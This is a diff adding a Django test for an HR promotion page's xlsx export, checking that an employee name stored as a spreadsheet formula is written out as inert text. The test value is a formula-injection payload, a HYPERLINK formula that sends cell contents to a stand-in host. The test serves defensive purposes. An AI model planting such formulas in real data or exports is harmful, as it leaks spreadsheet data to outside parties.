@@ -167,3 +167,16 @@ def test_hr_menandai_kemajuan_usulan(client, karier_org):
 def test_halaman_bukan_untuk_pegawai_biasa(client, karier_org):
     client.force_login(karier_org.siti.user)
     assert client.get(reverse("karier:kenaikan-pangkat")).status_code == 404
+
+
+def test_xlsx_kenaikan_pangkat_menetralkan_rumus(client, karier_org):
+    """An imported name that is a formula reaches the xlsx as text (issue 16, item 5)."""
+    rumus = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
+    Pegawai.objects.filter(pk=karier_org.siti.pk).update(nama=rumus)
+    client.force_login(karier_org.operator_diskes)
+    resp = client.get(
+        reverse("karier:kenaikan-pangkat"), {"periode": PERIODE, "semua": "on", "format": "xlsx"}
+    )
+    lembar = load_workbook(BytesIO(resp.content)).active
+    sel = [c for r in lembar.iter_rows() for c in r if c.value and "HYPERLINK" in str(c.value)]
+    assert [(c.data_type, c.value) for c in sel] == [("s", "'" + rumus)]
